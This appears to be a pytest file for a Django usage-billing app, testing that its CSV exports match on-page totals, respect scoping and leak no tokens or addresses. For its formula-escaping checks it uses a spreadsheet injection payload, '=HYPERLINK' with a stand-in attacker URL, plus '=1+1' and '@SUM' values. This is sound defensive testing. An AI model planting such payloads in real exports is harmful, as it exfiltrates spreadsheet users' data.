"""Every page's "Download CSV" (reports/pages/downloads.py, the views in reports/views/exports.py)
and the API's CSV answers (C6): the page's rows, its totals to the cent (C2), the formula guard
(C1), scoping (C5, S2, W2), no token, address, webhook URL or secret (C7, T2, A5), flat queries
(C4).

Date-sensitive (this month's spend): guarded by the month-edge clock (tests/support/clock.py).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Collection, Iterator
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection as db_connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from reports.formatting import money, to_cents
from reports.models import (
    Alert,
    Bucket,
    Budget,
    Channel,
    Connection,
    Delivery,
    Report,
    WebhookEvent,
)
from reports.periods import utc_midnight
from reports.spend import budgets, exports
from reports.spend.monthly import budget_statuses
from tests.factories import (
    ensure_example_price_book,
    held_bucket,
    make_connection,
    make_done_report,
    make_user,
    save_as_finished,
)
from tests.support.world import JWT, OWNER_TOKEN, SIGNED_LINK, World

pytestmark = pytest.mark.django_db

HOUR = 3600.0  # one hour of 8 GB training: EUR 1.20 in the example book
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


# --- Helpers ----------------------------------------------------------------------------------


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def body(response: Any) -> str:
    assert isinstance(response, StreamingHttpResponse), response.status_code
    return b"".join(response.streaming_content).decode("utf-8")


def download(client: Client, url: str, **extra: Any) -> tuple[Any, list[dict[str, str]]]:
    response = client.get(url, **extra)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="osai-usage')
    text = body(response)
    return response, list(csv.DictReader(io.StringIO(text, newline="")))


def header(client: Client, url: str) -> list[str]:
    return next(csv.reader(io.StringIO(body(client.get(url)), newline="")))


def total(rows: list[dict[str, str]], column: str = "cost_total") -> Decimal:
    return sum((Decimal(r[column]) for r in rows), Decimal(0))


def held_day(connection: Connection, start: Any, hours: float, *, end: Any = None) -> Bucket:
    """A held day as tracking leaves it (closed; or today's open day, `end` = now), finished
    through bucket_done, so the spend ledger writes its rows as the pipeline would."""
    bucket = held_bucket(
        connection,
        start,
        end or start + timedelta(days=1),
        closed=end is None,
        totals={"training_seconds_8gb": hours * HOUR},
        osai_report_id=70000 + connection.pk * 100 + start.day,
        osai_creation_time_raw="2026-02-10T14:33:33.7629037Z",
        osai_created_at=timezone.now(),
        finished_at=timezone.now(),
    )
    return save_as_finished(bucket)


def this_month(connection: Connection, hours: float, *, skip: Collection[int] = ()) -> None:
    """Every closed day of this month so far (but the days in `skip`) and today so far."""
    now = timezone.now()
    today = utc_midnight(now.date())
    for d in range(1, now.day):
        if d not in skip:
            held_day(connection, today.replace(day=d), hours * d)
    held_day(connection, today, hours, end=max(now, today + timedelta(seconds=1)))


@pytest.fixture
def book() -> Any:
    return ensure_example_price_book()


@pytest.fixture
def spender(book: Any) -> dict[str, Any]:
    """Two connections with this month held; "Edge" lacks the 1st (once it is closed), so
    the overview leaves that day out of the month to date for both."""
    owner = make_user("payer", email="payer@example.com")
    lab = make_connection(owner, "Lab")
    edge = make_connection(owner, FORMULA)
    this_month(lab, 1)
    this_month(edge, 2, skip={1})
    return {"owner": owner, "lab": lab, "edge": edge, "book": book}


# --- The overview -----------------------------------------------------------------------------


def test_the_overview_csv_is_the_months_held_days_adding_up_to_the_page_to_the_cent(
    spender: dict[str, Any],
) -> None:
    client = client_for(spender["owner"])
    page = client.get(reverse("home"))
    content = page.content.decode()
    assert reverse("overview_export_csv") in content and 'class="csv-link"' in content
    spend = page.context["spend"]
    response, rows = download(client, reverse("overview_export_csv"))
    assert list(rows[0]) == exports.export_columns(team=False, with_cost=True)
    assert response["Content-Disposition"].endswith(f'-month-{spend.month_start:%Y-%m}.csv"')
    # The same money as the month to date, exactly (the ledger's own units), and to the cent
    # as the tile shows it.
    assert total(rows) == spend.month_to_date
    assert f"EUR</span> {money(spend.month_to_date)}" in content
    per_connection = {c.label: c.month_to_date for c in page.context["per_connection"]}
    for label, shown in per_connection.items():
        mine = [r for r in rows if r["connection"] == label.replace("=", "'=", 1)]
        assert to_cents(total(mine)) == shown, label
    # A row per connection and day the page counts: the 1st is missing for "Edge", so neither
    # connection's 1st counts (the page shows it as "not fetched yet").
    now = timezone.now()
    counted = [d.day for d in spend.days if d.cost is not None]
    assert len(rows) == 2 * len(counted)
    first = f"{now:%Y-%m}-01T00:00:00Z"
    assert (first in {r["period_start"] for r in rows}) == (now.day == 1)
    # Today's open day is there, preliminary; every row says where it came from.
    today = [r for r in rows if r["preliminary"] == "true"]
    assert {r["period_start"] for r in today} == {f"{now:%Y-%m-%d}T00:00:00Z"}
    assert all(r["osai_report_id"] and r["osai_creation_time"] for r in rows)
    assert all(r["price_book"] == "Example price book" and r["currency"] == "EUR" for r in rows)
    assert all(r["price_book_versions"] for r in rows)
    # C1: the label that is a formula is text.
    assert {r["connection"] for r in rows} == {"Lab", "'" + FORMULA}


def test_the_overview_csv_of_someone_without_connections_is_its_header() -> None:
    ensure_example_price_book()
    client = client_for(make_user())
    assert header(client, reverse("overview_export_csv")) == exports.export_columns(
        team=False, with_cost=True
    )
    assert Client().get(reverse("overview_export_csv"))["Location"].startswith("/accounts/login/")


def test_without_a_price_book_the_overview_csv_has_the_same_days_and_no_cost(
    spender: dict[str, Any],
) -> None:
    from reports.models import PriceBook

    PriceBook.objects.update(is_default=False)
    today = utc_midnight(timezone.now().date())
    held_day(spender["lab"], today, 0.5, end=today + timedelta(seconds=1))  # an older fetch
    client = client_for(spender["owner"])
    spend = client.get(reverse("home")).context["spend"]
    _, rows = download(client, reverse("overview_export_csv"))
    assert list(rows[0]) == exports.export_columns(team=False, with_cost=False)
    days = [f"{d.day:%Y-%m-%d}T00:00:00Z" for d in spend.days if d.cost is not None]
    # Today's latest fetch alone, as the page counts it.
    assert sorted(r["period_start"] for r in rows) == sorted(days * 2)
    lab_today = [r for r in rows if r["connection"] == "Lab" and r["preliminary"] == "true"]
    assert [r["training_8gb_gpu_hours"] for r in lab_today] == ["1"]


def test_the_overview_csv_runs_the_same_queries_for_1_and_8_connections(book: Any) -> None:
    """C4: the queries do not grow with the connections (nor with their days)."""
    owner = make_user()
    client = client_for(owner)
    counts = []
    for more in (1, 7):
        for _ in range(more):
            this_month(make_connection(owner), 1)
        body(client.get(reverse("overview_export_csv")))  # writes the rows the ledger lacked
        with CaptureQueriesContext(db_connection) as queries:
            _, rows = download(client, reverse("overview_export_csv"))
        assert len(rows) == Connection.objects.filter(owner=owner).count() * timezone.now().day
        counts.append(len(queries.captured_queries))
    assert counts[0] == counts[1]


# --- The API: /spend and /reports/{id} as CSV -------------------------------------------------


def api(token: str, path: str, **extra: Any) -> Any:
    return Client().get(f"/api/v1/{path}", HTTP_AUTHORIZATION=f"Bearer {token}", **extra)


@pytest.fixture
def team_world(world: World) -> World:
    """The world, with this month held for both connections the team shares, and another
    connection of the owner's that is not shared."""
    this_month(world.connection, 1)
    this_month(world.admin_connection, 3)
    this_month(make_connection(world.owner, "Not shared"), 5)
    return world


def test_the_api_answers_spend_as_csv_on_format_or_accept(team_world: World, settings: Any) -> None:
    settings.API_RATE = "10000/m"
    w = team_world
    token = w.tokens["owner"]
    json_answer = api(token, "spend").json()
    _, by_format = download(
        Client(), "/api/v1/spend?format=csv", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    _, by_accept = download(
        Client(), "/api/v1/spend", HTTP_AUTHORIZATION=f"Bearer {token}", HTTP_ACCEPT="text/csv"
    )
    _, page = download(client_for(w.owner), reverse("overview_export_csv"))
    assert by_format == by_accept == page
    assert str(to_cents(total(by_format))) == json_answer["month_to_date_cost"]
    # ?format=json wins over the Accept header.
    assert api(token, "spend?format=json", HTTP_ACCEPT="text/csv").json() == json_answer
    # A team: its admins and viewers, the member column, only what members share (M1).
    team_json = api(w.tokens["team_viewer"], f"spend?team={w.team.pk}").json()
    _, team_rows = download(
        Client(),
        f"/api/v1/spend?team={w.team.pk}&format=csv",
        HTTP_AUTHORIZATION=f"Bearer {w.tokens['team_viewer']}",
    )
    assert list(team_rows[0]) == exports.export_columns(team=True, with_cost=True)
    assert {(r["member"], r["connection"]) for r in team_rows} == {
        ("owner", "Main"),
        ("admin", "Admin lab"),
    }
    assert str(to_cents(total(team_rows))) == team_json["month_to_date_cost"]
    for role in ("team_member", "stranger", "other_admin"):
        refused = api(w.tokens[role], f"spend?team={w.team.pk}&format=csv")
        assert refused.status_code == 404 and refused.json() == {"detail": "Not Found"}


def test_the_api_answers_a_report_as_its_pages_csv(world: World, settings: Any) -> None:
    settings.API_RATE = "10000/m"
    w = world
    for role, report in (("owner", w.personal_report), ("team_viewer", w.team_report)):
        _, page = download(client_for(w.user(role)), reverse("report_export_csv", args=[report.pk]))
        _, answer = download(
            Client(),
            f"/api/v1/reports/{report.pk}",
            HTTP_AUTHORIZATION=f"Bearer {w.tokens[role]}",
            HTTP_ACCEPT="text/csv, application/json;q=0.5",
        )
        assert answer == page
        json_total = Decimal(api(w.tokens[role], f"reports/{report.pk}").json()["cost"]["total"])
        assert to_cents(total(answer)) == to_cents(json_total)
    assert api(w.tokens["team_member"], f"reports/{w.team_report.pk}?format=csv").status_code == 404
    assert (
        api(w.tokens["stranger"], f"reports/{w.personal_report.pk}?format=csv").status_code == 404
    )
    assert api(w.tokens["owner"], "reports/1?format=xml").status_code == 400


# --- Budgets and the alert log ----------------------------------------------------------------


def test_the_budget_csvs_say_what_the_bars_say_for_every_budget_one_sees(
    team_world: World,
) -> None:
    w = team_world
    personal = budgets.budget_set(actor=w.owner, scope="person", amount="30")
    on_main = budgets.budget_set(
        actor=w.owner, scope="connection", connection=w.connection, amount="7.5"
    )
    team = budgets.budget_set(actor=w.team_admin, scope="team", team=w.team, amount="1000")
    client = client_for(w.owner)
    page = client.get(reverse("budget_list"))
    assert reverse("budget_list_export_csv") in page.content.decode()
    _, rows = download(client, reverse("budget_list_export_csv"))
    assert [int(r["budget_id"]) for r in rows] == [s.budget.pk for s in page.context["statuses"]]
    assert {int(r["budget_id"]) for r in rows} == {personal.pk, on_main.pk}  # not the team's
    for row, status in zip(rows, page.context["statuses"], strict=True):
        assert row["budget"] == status.name
        assert Decimal(row["amount"]) == status.amount
        assert Decimal(row["spent"]) == status.spent  # to the cent, as the bar
        assert Decimal(row["percent"]) == status.percent
        assert Decimal(row["remaining"]) == status.remaining
        assert (row["forecast"] == "") == (status.forecast is None)
        if status.forecast is not None:
            assert Decimal(row["forecast"]) == status.forecast.value
            assert Decimal(row["forecast_percent"]) == status.forecast_percent
        assert row["thresholds"] == "50 80 100" and row["currency"] == "EUR"
        assert row["month"] == f"{timezone.now():%Y-%m}"
    # The team's budget: its admins and viewers (who may download its CSVs), no one else.
    for role, sees in (("team_viewer", True), ("team_admin", True), ("team_member", False)):
        _, mine = download(client_for(w.user(role)), reverse("budget_list_export_csv"))
        assert (str(team.pk) in [r["budget_id"] for r in mine]) == sees, role
    _, one = download(client_for(w.team_viewer), reverse("budget_export_csv", args=[team.pk]))
    [status] = budget_statuses([Budget.objects.get(pk=team.pk)])
    assert [(r["budget"], Decimal(r["spent"])) for r in one] == [("Team Vision", status.spent)]
    assert client_for(w.owner).get(reverse("budget_export_csv", args=[team.pk])).status_code == 404


def test_the_alert_log_csv_has_each_message_without_its_target_or_secret(
    spender: dict[str, Any], settings: Any
) -> None:
    settings.ALERT_WEBHOOK_ALLOW_LOCAL = True
    owner = spender["owner"]
    budget = budgets.budget_set(
        actor=owner,
        scope="person",
        amount="5",  # at least 72 %: 3.60 is spent on the 1st already
        emails=["payer@example.com", "cfo@finance.example"],
        webhook_url="http://127.0.0.1:9/hook",
        webhook_secret="CANARY-webhook-secret-7c1d",
    )
    hook = "https://hooks.finance.example/osai/T0KEN?sig=CANARY-QUERY"
    [channel] = budget.channels.filter(kind="webhook")
    channel.set_url(hook)  # as if it were added with this URL (no DNS in tests)
    channel.save()
    alerts = budgets.budget_check(budget)
    assert alerts
    webhook = Delivery.objects.get(budget=budget, channel=Channel.Kind.WEBHOOK)
    Delivery.objects.filter(pk=webhook.pk).update(
        target=hook,
        state=Delivery.State.FAILED,
        attempts=5,
        last_error="hooks.finance.example answered HTTP 500. (gave up after 5 attempts)",
    )
    Delivery.objects.filter(channel=Channel.Kind.EMAIL).update(
        last_error="Retrying: the mail server refused cfo@finance.example"
    )
    client = client_for(owner)
    page = client.get(reverse("budget_detail", args=[budget.pk])).content.decode()
    assert reverse("budget_alert_log_csv", args=[budget.pk]) in page
    response = client.get(reverse("budget_alert_log_csv", args=[budget.pk]))
    text = body(response)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    # A row per alert and message (each alert made one per channel, or none).
    expected = sum(max(a.deliveries.count(), 1) for a in Alert.objects.filter(budget=budget))
    assert len(rows) == expected
    assert {r["threshold"] for r in rows} == {str(a.threshold) for a in alerts}
    failed = next(r for r in rows if r["delivery_channel"] == "webhook")
    assert failed["delivery_state"] == "failed" and failed["delivery_attempts"] == "5"
    assert failed["delivery_last_error"] == (
        "[webhook host] answered HTTP 500. (gave up after 5 attempts)"
    )
    emailed = next(r for r in rows if r["delivery_channel"] == "email")
    assert emailed["delivery_last_error"] == "Retrying: the mail server refused [address]"
    for secret in (
        "@",
        "finance.example",
        "hooks",
        "T0KEN",
        "CANARY",
        "127.0.0.1",
        channel.secret_encrypted,
        channel.url_encrypted,
    ):
        assert secret not in text, secret
    # Every visible budget's log at once: the same rows.
    _, all_rows = download(client, reverse("budget_alerts_export_csv"))
    assert all_rows == rows
    assert (
        client_for(make_user()).get(reverse("budget_alert_log_csv", args=[budget.pk])).status_code
        == 404
    )


# --- The activity feed ------------------------------------------------------------------------


def test_the_activity_csv_is_the_feed_of_ones_own_connections(world: World) -> None:
    w = world
    WebhookEvent.objects.create(
        connection=w.connection,
        dedupe_key="formula",
        body="{}",
        kind="prediction",
        kind_raw="Prediction",
        message="=1+1",
        task_id="@SUM(1,2)",
    )
    client = client_for(w.owner)
    page = client.get(reverse("activity")).content.decode()
    assert reverse("activity_export_csv") in page
    _, rows = download(client, reverse("activity_export_csv"))
    feed = client.get(reverse("activity")).context["items"]
    assert [int(r["id"]) for r in rows] == [item.pk for item in feed]  # newest first
    assert [(r["kind"], r["outcome"], r["worker_gb"]) for r in rows] == [
        ("prediction", "unknown", ""),
        ("training", "succeeded", "16"),
    ]
    assert (rows[0]["message"], rows[0]["task_id"]) == ("'=1+1", "'@SUM(1,2)")  # C1
    text = body(client.get(reverse("activity_export_csv") + f"?connection={w.connection.pk}"))
    for secret in (SIGNED_LINK, "Signature=", w.connection.webhook_secret, OWNER_TOKEN, JWT):
        assert secret not in text
    # Someone else's connection, or no connection: 404; another person's feed: nothing.
    other = f"?connection={w.other_connection.pk}"
    assert client.get(reverse("activity_export_csv") + other).status_code == 404
    assert client.get(reverse("activity_export_csv") + "?connection=x").status_code == 404
    _, strangers = download(client_for(w.team_admin), reverse("activity_export_csv"))
    assert strangers == []


# --- The report history -----------------------------------------------------------------------


def test_the_history_csv_is_a_row_per_report_in_the_pages_order(world: World) -> None:
    w = world
    client = client_for(w.team_viewer)
    page = client.get(reverse("report_history"))
    assert reverse("report_history_export_csv") in page.content.decode()
    _, rows = download(client, reverse("report_history_export_csv"))
    assert [int(r["report_id"]) for r in rows] == [r.pk for r, _ in page.context["reports"]]
    [row] = rows
    assert row["team"] == "Vision" and row["requested_by"] == "admin"
    assert row["connections"] == "Admin lab; Main"
    assert (row["period_start"], row["period_end"]) == (
        "2026-01-01T00:00:00Z",
        "2026-04-01T00:00:00Z",
    )
    assert row["state"] == "done" and row["buckets_done"] == row["buckets_total"] == "6"
    assert row["csv"] == reverse("report_export_csv", args=[w.team_report.pk])
    _, own = download(client_for(w.owner), reverse("report_history_export_csv"))
    assert [int(r["report_id"]) for r in own] == [w.personal_report.pk]  # not the team's
    _, none = download(client_for(w.team_member), reverse("report_history_export_csv"))
    assert none == []


def test_the_history_csv_runs_the_same_queries_for_1_and_40_reports() -> None:
    owner = make_user()
    connection = make_connection(owner, "=lab")
    client = client_for(owner)
    counts = []
    for more in (1, 39):
        for _ in range(more):
            make_done_report(owner, [connection])
        with CaptureQueriesContext(db_connection) as queries:
            _, rows = download(client, reverse("report_history_export_csv"))
        assert len(rows) == Report.objects.filter(owner=owner).count()
        counts.append(len(queries.captured_queries))
    assert counts[0] == counts[1]
    assert rows[0]["connections"] == "'=lab"


# --- Secrets in every CSV ---------------------------------------------------------------------


def _every_csv(user: Any) -> Iterator[str]:
    client = client_for(user)
    for name in (
        "overview_export_csv",
        "budget_list_export_csv",
        "budget_alerts_export_csv",
        "activity_export_csv",
        "report_history_export_csv",
    ):
        yield body(client.get(reverse(name)))


def test_no_token_jwt_signed_link_or_others_address_in_any_page_csv(team_world: World) -> None:
    w = team_world
    budgets.budget_set(
        actor=w.team_admin, scope="team", team=w.team, amount="1", emails=["lead@example.com"]
    )
    for budget in Budget.objects.all():
        budgets.budget_check(budget)
    for user in (w.owner, w.team_admin, w.team_viewer):
        for text in _every_csv(user):
            for secret in (OWNER_TOKEN, OWNER_TOKEN[-8:], JWT, SIGNED_LINK, "Signature="):
                assert secret not in text
            assert "@" not in text  # no one's address: alerts name no target
